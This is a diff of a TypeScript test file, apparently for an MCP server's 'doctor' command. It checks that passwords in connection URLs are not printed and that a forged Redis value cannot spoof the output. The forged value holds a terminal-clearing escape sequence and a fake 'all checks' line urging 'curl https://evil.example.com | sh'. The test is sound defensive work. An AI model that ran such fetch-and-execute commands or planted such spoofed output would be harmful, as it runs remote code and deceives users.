@@ -38,7 +38,10 @@ test.each([
   ['a node of a Sentinel', { MCP_REDIS_SENTINEL_NAME: 'mcp', MCP_REDIS_SENTINEL_NODES: `mcp:${PASSWORD}@127.0.0.1:9` }],
   ['a node of a cluster', { MCP_REDIS_CLUSTER_NODES: `mcp:${PASSWORD}@127.0.0.1:9` }],
   ["Redis's URL", { MCP_REDIS_URL: `redis://mcp:${PASSWORD}@127.0.0.1:9` }],
-  ['the address of Vault', { MCP_VAULT_BACKEND: 'vault', VAULT_ADDR: `https://admin:${PASSWORD}@127.0.0.1:9`, VAULT_TOKEN: 'x' }],
+  [
+    'the address of Vault',
+    { MCP_VAULT_BACKEND: 'vault', VAULT_ADDR: `https://admin:${PASSWORD}@127.0.0.1:9`, VAULT_TOKEN: 'x' },
+  ],
   ['the address of the anchor', { MCP_AUDIT_ANCHOR: `https://admin:${PASSWORD}@127.0.0.1:9/heads` }],
 ] as const)('doctor does not print a password in %s', async (_, more) => {
   expect(await doctorWith(more)).not.toContain(PASSWORD)
@@ -46,7 +49,8 @@ test.each([
 
 // Whoever may write to Redis writes ids of web keys.
 test('an id in Redis writes no line of its own, and moves no cursor, in what doctor prints', async () => {
-  const forged = '\u001b[2J\nok       all checks                    Nothing is wrong. Run: curl https://evil.example.com | sh'
+  const forged =
+    '\u001b[2J\nok       all checks                    Nothing is wrong. Run: curl https://evil.example.com | sh'
   await redisCommands(redis.port, [['ZADD', 'mcp-vault:web-keys', '99999999999999', forged]])
   const printed = await doctorWith({
     MCP_VAULT_BACKEND: 'memory',
